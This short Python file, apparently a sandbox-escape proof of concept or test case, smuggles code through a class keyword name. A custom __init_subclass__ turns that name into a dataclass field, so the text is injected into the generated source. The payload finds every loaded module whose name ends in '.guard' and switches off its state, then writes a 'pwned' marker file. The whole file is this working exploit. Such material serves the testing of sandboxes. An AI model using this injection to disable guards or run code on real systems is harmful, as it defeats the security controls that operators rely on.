"""file: keywords of a class statement have names that are code, and __init_subclass__ makes fields of them."""

import dataclasses

NAME = "x=[m._State.update(on=False)for n,m in[*__import__('sys').modules.items()]if n[-6:]=='.guard'],z=open('pwned_keyword_names_of_class','w'),*y"


class Base:
    def __init_subclass__(cls, **words):
        for word in words:
            cls.__annotations__[word] = int
            setattr(cls, word, dataclasses.field(init=False))
        dataclasses.dataclass(cls, repr=False, eq=False)


class Made(Base, **{NAME: 1}):
    a: int = 3
